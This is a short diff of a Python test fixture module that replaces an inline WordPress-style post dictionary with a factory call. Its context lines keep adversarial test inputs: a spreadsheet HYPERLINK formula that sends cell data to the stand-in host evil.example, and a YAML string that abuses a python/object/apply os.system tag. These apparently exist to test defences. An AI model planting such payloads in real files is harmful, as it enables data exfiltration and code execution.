@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 from typing import Any, NamedTuple
 
+from tests import factories
+
 SITE = "https://www.example.org"
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 YAML_TITLE = '---\nname: x\n---\n: !!python/object/apply:os.system ["true"] #\t- a: b'
@@ -30,11 +32,7 @@ class Hostile(NamedTuple):
 
 def post(number: int, html: str | None = "<p>x</p>", **more: Any) -> dict[str, Any]:
     """A post as the REST API gives it, of this content."""
-    return {
-        "id": number, "type": "post", "link": f"{SITE}/?p={number}", "slug": f"post-{number}", "status": "publish",
-        "date_gmt": "2026-01-01T00:00:00", "date": "2026-01-01T00:00:00", "modified_gmt": "2026-01-01T00:00:00",
-        "title": {"rendered": f"T{number}"}, "content": {"rendered": html, "protected": False},
-    } | more  # fmt: skip
+    return factories.post(number, html, home=SITE, **more)
 
 
 def _json(html: str | None = "<p>x</p>", **more: Any) -> bytes:
